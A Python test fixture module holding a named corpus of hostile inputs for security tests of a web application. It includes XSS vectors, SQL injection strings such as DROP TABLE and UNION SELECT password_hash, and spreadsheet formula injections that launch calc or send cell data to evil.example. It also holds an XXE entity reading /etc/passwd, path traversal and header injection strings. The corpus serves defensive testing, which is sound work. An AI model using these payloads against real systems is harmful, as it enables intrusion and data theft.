"""The bad-input corpus: text and files that have broken other applications, grouped by kind, each with a name.

Shared by tests/security/test_bad_input_corpus.py (every form field and upload of the application) and
tests/browser/test_payloads_inert.py (nothing a person wrote runs in Chromium). Script payloads all call
`alert(1)` and set `window.__pwned`, so running one is observable as a dialog or as that global.

A text payload is a `str`; invalid UTF-8 is `bytes` and must go into the request body as raw bytes (see
`encode_form` in the corpus test), never decoded into Python text first.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "alert(1);window.__pwned=1"
MARK_URL = "javascript:alert(1);window.__pwned=1"


@dataclass(frozen=True)
class Payload:
    category: str
    name: str
    value: str | bytes

    @property
    def id(self) -> str:
        return f"{self.category}-{self.name}"


@dataclass(frozen=True)
class FilePayload:
    name: str
    filename: str | bytes
    content: bytes
    content_type: str = "application/octet-stream"

    @property
    def id(self) -> str:
        return f"file-{self.name}"


def _group(category: str, items: dict[str, str | bytes]) -> list[Payload]:
    return [Payload(category, name, value) for name, value in items.items()]


SCRIPT = _group("script", {
    "plain": f"<script>{MARK}</script>",
    "uppercase": f"<SCRIPT>{MARK}</SCRIPT>",
    "mixed-case": f"<ScRiPt>{MARK}</sCrIpT>",
    "src-data": f"<script src=\"data:text/javascript,{MARK}\"></script>",
    "nested": f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    "close-textarea": f"</textarea><script>{MARK}</script>",
    "close-title": f"</title><script>{MARK}</script>",
    "close-style": f"</style><script>{MARK}</script>",
    "close-script": f"</script><script>{MARK}</script>",
    "attribute-break": f"\"><script>{MARK}</script>",
    "single-quote-break": f"'><script>{MARK}</script>",
    "json-break": f"\"}}</script><script>{MARK}</script>",
    "js-string-break": f"';{MARK};//",
    "js-dq-string-break": f"\";{MARK};//",
    "template-literal": f"${{{MARK}}}",
    "jinja-expression": "{{ config.items() }}{{7*7}}",
    "jinja-statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "angular": "{{constructor.constructor('alert(1);window.__pwned=1')()}}",
    "encoded-entities": f"&lt;script&gt;{MARK}&lt;/script&gt;",
    "double-encoded": "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "url-encoded": "%3Cscript%3Ealert(1);window.__pwned=1%3C/script%3E",
    "null-in-tag": f"<scr\x00ipt>{MARK}</scr\x00ipt>",
    "newline-in-tag": f"<script\n>{MARK}</script\n>",
    "fullwidth": f"＜script＞{MARK}＜/script＞",
    "markdown-html-block": f"Text\n\n<script>{MARK}</script>\n\nMore",
    "markdown-code-fence": f"```html\n<script>{MARK}</script>\n```",
    "noscript-break": f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">",
    "comment-break": f"<!--<img src=\"--><img src=x onerror={MARK}//\">",
    "cdata": f"<![CDATA[<script>{MARK}</script>]]>",
    "template-tag": f"<template><script>{MARK}</script></template>",
})

EVENT_HANDLER = _group("event", {
    "img-onerror": f"<img src=x onerror=\"{MARK}\">",
    "img-onerror-unquoted": "<img src=x onerror=alert(1)//>",
    "img-onerror-backtick": "<img src=x onerror=`alert(1)`>",
    "img-slash": f"<img/src=x/onerror={MARK}>",
    "body-onload": f"<body onload=\"{MARK}\">",
    "svg-onload": f"<svg onload=\"{MARK}\">",
    "svg-slash-onload": f"<svg/onload={MARK}>",
    "iframe-onload": f"<iframe onload=\"{MARK}\"></iframe>",
    "input-autofocus": f"<input autofocus onfocus=\"{MARK}\">",
    "select-autofocus": f"<select autofocus onfocus=\"{MARK}\"></select>",
    "textarea-autofocus": f"<textarea autofocus onfocus=\"{MARK}\"></textarea>",
    "details-ontoggle": f"<details open ontoggle=\"{MARK}\">",
    "marquee-onstart": f"<marquee onstart=\"{MARK}\">x</marquee>",
    "video-onerror": f"<video><source onerror=\"{MARK}\"></video>",
    "audio-onerror": f"<audio src=x onerror=\"{MARK}\">",
    "div-onmouseover": f"<div onmouseover=\"{MARK}\" style=\"position:fixed;inset:0\">x</div>",
    "a-onclick": f"<a href=\"#\" onclick=\"{MARK}\">click</a>",
    "attribute-onfocus": f"\" autofocus onfocus=\"{MARK}\" x=\"",
    "attribute-onmouseover": f"' onmouseover='{MARK}' x='",
    "object-data": f"<object data=\"data:text/html,<script>{MARK}</script>\"></object>",
    "embed-src": f"<embed src=\"data:text/html,<script>{MARK}</script>\">",
    "style-expression": "<div style=\"width:expression(alert(1))\">x</div>",
    "style-import": "<style>@import 'javascript:alert(1)';</style>",
    "link-import": "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "meta-refresh": f"<meta http-equiv=\"refresh\" content=\"0;url={MARK_URL}\">",
    "base-href": "<base href=\"javascript:alert(1)//\">",
    "form-action": f"<form action=\"{MARK_URL}\"><button>go</button></form>",
    "button-formaction": f"<button formaction=\"{MARK_URL}\">go</button>",
    "math-href": f"<math href=\"{MARK_URL}\">x</math>",
    "isindex": f"<isindex type=image src=1 onerror={MARK}>",
})

JAVASCRIPT_URL = _group("jsurl", {
    "markdown-link": f"[click me]({MARK_URL})",
    "markdown-link-upper": "[click](JAVASCRIPT:alert(1))",
    "markdown-link-spaced": "[click](  javascript:alert(1))",
    "markdown-link-tab": "[click](java\tscript:alert(1))",
    "markdown-link-entity": "[click](&#106;avascript:alert(1))",
    "markdown-image": f"![img]({MARK_URL})",
    "markdown-reference": f"[click][1]\n\n[1]: {MARK_URL}",
    "markdown-autolink": f"<{MARK_URL}>",
    "markdown-data-url": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown-vbscript": "[x](vbscript:msgbox(1))",
    "a-href": f"<a href=\"{MARK_URL}\">x</a>",
    "a-href-entities": "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "a-href-newline": "<a href=\"java\nscript:alert(1)\">x</a>",
    "a-href-leading-space": "<a href=\" javascript:alert(1)\">x</a>",
    "iframe-src": f"<iframe src=\"{MARK_URL}\"></iframe>",
    "bare": MARK_URL,
    "bare-upper": "JaVaScRiPt:alert(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "protocol-relative": "//evil.example/x.js",
})

SVG = _group("svg", {
    "script": f"<svg><script>{MARK}</script></svg>",
    "animate": f"<svg><animate onbegin=\"{MARK}\" attributeName=x dur=1s>",
    "set": "<svg><set attributeName=onmouseover to=alert(1)>",
    "a-xlink": f"<svg><a xlink:href=\"{MARK_URL}\"><text x=20 y=20>x</text></a></svg>",
    "foreignobject": f"<svg><foreignObject><img src=x onerror=\"{MARK}\"></foreignObject></svg>",
    "use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "image-onerror": f"<svg><image href=x onerror=\"{MARK}\"/></svg>",
    "namespaced": f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{MARK}\"/>",
    "style-cdata": "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "xml-entity": "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><svg>&e;</svg>",
    "billion-laughs": "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><svg>&b;</svg>",
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
})

BROKEN_HTML = _group("html", {
    "unclosed-tag": "<b>bold <i>italic",
    "unclosed-comment": "<!-- never closed",
    "stray-closer": "</div></div></div></body></html>",
    "unclosed-attribute": "<a href=\"x>unterminated",
    "lone-lt": "a < b > c",
    "ampersand": "AT&T & co; &amp &notanentity; &#xZZ;",
    "entity-overflow": "&#99999999999; &#x110000; &#0;",
    "doctype": "<!DOCTYPE html><html><head></head><body>x",
    "table-soup": "<table><tr><td>x</table></td></tr><p>",
    "deep-nesting": "<div>" * 500 + "deep" + "</div>" * 3,
    "deep-markdown-quote": ">" * 1000 + " quoted",
    "deep-markdown-list": "".join("  " * i + "- item\n" for i in range(200)),
    "markdown-bomb": "[a](" * 2000,
    "markdown-emphasis": "*a **b _c __d" * 200,
    "processing-instruction": "<?php system('id'); ?>",
    "server-side-include": "<!--#exec cmd=\"id\" -->",
    "xml-prolog": "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "plaintext-tag": "<plaintext>everything after",
    "xmp-tag": "<xmp></xmp><script>alert(1)</script>",
    "html-only-whitespace": "<p>   </p><br><br/>",
})

FORMULA = _group("formula", {
    "equals": "=1+1",
    "hyperlink": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "cmd": "=cmd|' /C calc'!A0",
    "dde": "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "webservice": "=WEBSERVICE(\"http://evil.example/\")",
    "importxml": "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "fullwidth-equals": "＝1+1",
    "quoted": "\"=1+1\"",
    "semicolon": ";=1+1",
    "leading-space": " =1+1",
})

SQL = _group("sql", {
    "quote": "'",
    "double-quote": "\"",
    "tautology": "' OR '1'='1",
    "comment": "admin'--",
    "union": "' UNION SELECT password_hash FROM \"user\"--",
    "stacked": "'; DROP TABLE comment; --",
    "stacked-dq": "\"; DROP TABLE \"user\"; --",
    "sleep-pg": "'; SELECT pg_sleep(5); --",
    "like-wildcards": "%_%",
    "backslash": "\\",
    "backslash-quote": "\\'",
    "hex": "0x27204f522031",
    "semicolon": ";",
    "json-path": "$.a[*] ? (@ like_regex \".*\")",
    "percent-s": "%s %s %(name)s {0} {name}",
})

CONTROL = _group("control", {
    "nul": "before\x00after",
    "nul-only": "\x00",
    "nul-leading": "\x00leading",
    "bell-backspace": "bell\x07back\x08space",
    "escape-sequence": "\x1b[31mred\x1b[0m",
    "vertical-tab-formfeed": "a\x0bb\x0cc",
    "del": "del\x7fete",
    "c1-controls": "c1\x85\x9bcontrols",
    "crlf": "line one\r\nline two\r\n",
    "lone-cr": "line one\rline two",
    "header-injection": "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>",
    "only-whitespace": " \t\n ",
    "unicode-spaces": "\u00a0\u2003\u3000",
    "zero-width": "zero\u200bwidth\u200c\u200d\u2060joiner",
    "bom": "\ufeffstarts with a BOM",
    "noncharacters": "\ufffe\uffff",
    "line-separator": "para\u2028line\u2029sep",
    "all-c0": "".join(chr(c) for c in range(1, 32)),
})

BIDI = _group("bidi", {
    "rlo": "\u202eevil.exe\u202c",
    "rlo-filename": "invoice\u202efdp.exe",
    "lro": "\u202dforced ltr\u202c",
    "rli": "\u2067isolate\u2069",
    "arabic": "مرحبا بالعالم",
    "hebrew": "שלום עולם",
    "mixed": "English عربي English",
    "unterminated-embedding": "\u202b\u202b\u202b unterminated",
})

UNICODE = _group("unicode", {
    "combining-zalgo": ("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f"
                        "\u0334\u0319\u0324\u031e\u0349\u035a\u032f") * 20,
    "combining-many": "e" + "\u0301" * 500,
    "decomposed": "e\u0301te\u0301",
    "composed": "été",
    "emoji": "👍🏽🎉",
    "emoji-zwj": "👩‍👩‍👧‍👦👨🏿‍🚀",
    "flags": "🇫🇷🇪🇸🇬🇧",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𐍈 𠜎",
    "cjk": "海关与知识产权",
    "thai": "ด่านศุลกากร",
    "devanagari": "सीमा शुल्क",
    "greek-turkish": "İstanbul ıi ΣΑΣ",
    "ligatures": "ﬁﬂﬀ",
    "homoglyph": "аdmin@consult.example",
    "variation-selectors": "☃\ufe0f\ufe0e",
    "tag-characters": "hi\U000e0041\U000e0042",
    "halfwidth": "ｶﾀｶﾅ",
    "max-codepoint": "\U0010fffd",
    "sharp-s": "Straße ß ẞ",
    "long-emoji": "😀" * 3000,
})

LONG = _group("long", {
    "1mb-ascii": "A" * (1024 * 1024),
    "1mb-multibyte": "é" * (512 * 1024),
    "1mb-lines": "line\n" * (1024 * 1024 // 5),
    "64k": "B" * 65536,
    "256-chars": "C" * 256,
    "300-chars": "D" * 300,
    "1001-chars": "E" * 1001,
    "10k-one-word": "F" * 10000,
    "long-url": "https://example.org/" + "a" * 5000,
    "long-words-spaces": "word " * 20000,
})

INVALID_UTF8 = _group("utf8", {
    "lone-continuation": b"bad \x80 byte",
    "truncated-sequence": b"truncated \xc3",
    "overlong-slash": b"overlong \xc0\xaf",
    "overlong-nul": b"overlong \xc0\x80 nul",
    "surrogate-encoded": b"surrogate \xed\xa0\x80",
    "beyond-max": b"beyond \xf4\x90\x80\x80",
    "ff-fe": b"\xff\xfe\x00",
    "latin1": "caf\xe9 cr\xe8me".encode("latin-1"),
    "cp1252-quotes": b"\x93quoted\x94",
    "five-byte": b"\xf8\x88\x80\x80\x80",
    "mixed-valid": "été ".encode() + b"\xe9t\xe9",
    "utf16": "hello".encode("utf-16"),
})

PATH = _group("path", {
    "dotdot": "../../../../etc/passwd",
    "dotdot-windows": "..\\..\\..\\windows\\win.ini",
    "encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "double-encoded": "%252e%252e%252fetc%252fpasswd",
    "absolute": "/etc/passwd",
    "file-url": "file:///etc/passwd",
    "nul-extension": "report.pdf\x00.exe",
    "unc": "\\\\evil.example\\share\\x",
    "overlong-dots": "....//....//etc/passwd",
    "dev-null": "/dev/zero",
    "url-open-redirect": "https://evil.example/",
    "url-scheme-relative": "//evil.example/",
    "backslash-redirect": "/\\evil.example",
    "ldap": "*)(uid=*))(|(uid=*",
    "email-header": "victim@example.org\r\nBcc: all@example.org",
    "crlf-url": "/%0d%0aSet-Cookie:%20x=1",
})

NUMBERS = _group("number", {
    "negative": "-1",
    "zero": "0",
    "huge": "99999999999999999999999999999999",
    "int64-overflow": "9223372036854775808",
    "float": "1.5e308",
    "nan": "NaN",
    "infinity": "Infinity",
    "hex-number": "0x10",
    "empty": "",
    "true": "true",
    "null-word": "null",
    "none-word": "None",
    "json-object": "{\"a\": [1, 2, {\"b\": null}]}",
    "json-array": "[]",
})

PAYLOADS: list[Payload] = [
    *SCRIPT, *EVENT_HANDLER, *JAVASCRIPT_URL, *SVG, *BROKEN_HTML, *FORMULA, *SQL, *CONTROL, *BIDI, *UNICODE,
    *LONG, *INVALID_UTF8, *PATH, *NUMBERS,
]

# What executes if it ever reaches a page unescaped: the browser test stores these everywhere a person's text shows.
XSS_PAYLOADS: list[Payload] = [*SCRIPT, *EVENT_HANDLER, *JAVASCRIPT_URL, *SVG]

# The handful tried in every field on its own (the rest go into all text fields of a form at once).
NASTIEST: list[Payload] = [
    next(p for p in PAYLOADS if p.id == wanted)
    for wanted in (
        "long-1mb-ascii", "long-1001-chars", "control-nul", "utf8-lone-continuation", "utf8-overlong-nul",
        "script-plain", "formula-equals", "sql-stacked", "bidi-rlo", "unicode-combining-many",
        "path-dotdot",
    )
]

# -- files ------------------------------------------------------------------------------------------------------
PDF_HEAD = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SVG_SCRIPT = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'.encode()
HTML_SCRIPT = f"<!DOCTYPE html><html><body><script>{MARK}</script></body></html>".encode()

FILE_NAMES: list[FilePayload] = [
    FilePayload("dotdot-passwd", "../../etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n", "text/plain"),
    FilePayload("dotdot-pdf", "../../../tmp/evil.pdf", PDF_HEAD, "application/pdf"),
    FilePayload("windows-dotdot", "..\\..\\win.ini", b"[fonts]\n", "text/plain"),
    FilePayload("absolute", "/etc/passwd", b"root:x:0:0\n", "text/plain"),
    FilePayload("nul-in-name", "report.pdf\x00.exe", PDF_HEAD, "application/pdf"),
    FilePayload("300-chars", "a" * 300 + ".pdf", PDF_HEAD, "application/pdf"),
    FilePayload("svg-onload-name", f"<svg onload={MARK}>.pdf", PDF_HEAD, "application/pdf"),
    FilePayload("script-name", f"<script>{MARK}</script>.csv", b"email\n", "text/csv"),
    FilePayload("rlo-name", "invoice\u202efdp.exe", PDF_HEAD, "application/pdf"),
    FilePayload("emoji-name", "résumé 👍🏽.pdf", PDF_HEAD, "application/pdf"),
    FilePayload("only-dots", "..", PDF_HEAD, "application/pdf"),
    FilePayload("empty-name", "", PDF_HEAD, "application/pdf"),
    FilePayload("formula-name", "=HYPERLINK(\"http://evil.example\").csv", b"email\n", "text/csv"),
    FilePayload("crlf-name", "a\r\nContent-Type: text/html\r\n.pdf", PDF_HEAD, "application/pdf"),
    FilePayload("invalid-utf8-name", b"caf\xe9\xff.pdf", PDF_HEAD, "application/pdf"),
    FilePayload("quote-name", "a\"; filename=\"evil.html", HTML_SCRIPT, "text/html"),
]

FILE_CONTENTS: list[FilePayload] = [
    FilePayload("svg-script", "picture.svg", SVG_SCRIPT, "image/svg+xml"),
    FilePayload("svg-as-pdf", "picture.pdf", SVG_SCRIPT, "application/pdf"),
    FilePayload("html-as-pdf", "report.pdf", HTML_SCRIPT, "application/pdf"),
    FilePayload("html", "page.html", HTML_SCRIPT, "text/html"),
    FilePayload("zero-bytes", "empty.pdf", b"", "application/pdf"),
    FilePayload("exe-magic-as-pdf", "setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "application/pdf"),
    FilePayload("elf-magic-as-docx", "tool.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    FilePayload("zip-bomb-like-docx", "big.docx", b"PK\x03\x04" + b"\x00" * 400,
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    FilePayload("png-magic-as-csv", "people.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "text/csv"),
    FilePayload("invalid-utf8-csv", "people.csv", b"email,display_name\n\xff\xfe@x.org,\xc3\x28\n", "text/csv"),
    FilePayload("nul-csv", "people.csv", b"email,display_name\na\x00@example.org,N\x00ul\n", "text/csv"),
    FilePayload("formula-csv", "people.csv",
                b"email,display_name,organization\n=cmd@example.org,=HYPERLINK(\"x\"),@SUM(1)\n", "text/csv"),
    FilePayload("xss-csv", "people.csv",
                f"email,display_name\nx@example.org,<script>{MARK}</script>\n".encode(), "text/csv"),
    FilePayload("huge-line-csv", "people.csv", b"email\n" + b"a" * (1024 * 1024) + b"\n", "text/csv"),
    FilePayload("json-garbage", "survey.json", b"{\"questions\": [{\"type\": \"<script>\"}", "application/json"),
    FilePayload("json-deep", "survey.json", b"[" * 5000 + b"]" * 5000, "application/json"),
    FilePayload("markdown-xss", "doc.md", f"# Title\n\n<script>{MARK}</script>\n\n[x]({MARK_URL})\n".encode(),
                "text/markdown"),
    FilePayload("markdown-nul", "doc.md", b"# Title\n\nNUL \x00 here\n", "text/markdown"),
    FilePayload("markdown-invalid-utf8", "doc.md", b"# Title\n\n\xff\xfe broken\n", "text/markdown"),
]

FILE_PAYLOADS: list[FilePayload] = [*FILE_NAMES, *FILE_CONTENTS]


def _check_corpus() -> None:
    ids = [payload.id for payload in PAYLOADS] + [payload.id for payload in FILE_PAYLOADS]
    assert len(ids) == len(set(ids)), "payload names must be unique"
    values = [payload.value for payload in PAYLOADS]
    assert len(values) == len(set(values)), "payloads must be distinct"


_check_corpus()
